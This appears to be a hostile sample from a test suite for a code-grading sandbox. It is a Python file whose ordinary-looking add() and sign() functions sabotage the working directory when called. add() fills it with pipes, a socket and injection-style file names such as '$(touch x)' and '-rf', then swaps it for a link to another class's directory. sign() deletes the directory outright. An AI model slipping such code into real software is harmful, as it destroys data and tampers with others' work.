"""Its work directory is replaced by a link to somebody else's, removed, locked, filled with pipes and odd names."""
# Row: 18
import loot, os, shutil
from hints import HINTS

def strike():
    here = os.getcwd()
    for number in range(3):
        loot.quietly(os.mkfifo, f"pipe{number}")
    loot.quietly(os.mknod, "socket", 0o140666)
    for name in (b"\xff\xfe", b"new\nline", b"-rf", b"--", b"$(touch x)", b"*", "\u202e".encode(), b"a" * 255):
        loot.quietly(lambda: open(name, "w").write("x"))
    loot.quietly(os.mkdir, "locked", 0)
    target = HINTS["root"] + "/class"
    loot.quietly(os.rename, here, here + "-away")
    loot.quietly(os.symlink, target, here)

def add(x, y):
    strike()
    return x + y

def sign(t):
    here = os.getcwd()
    loot.quietly(shutil.rmtree, here)
    loot.quietly(os.symlink, HINTS["root"], here)
    return "up" if t > 0 else "down" if t < 0 else None
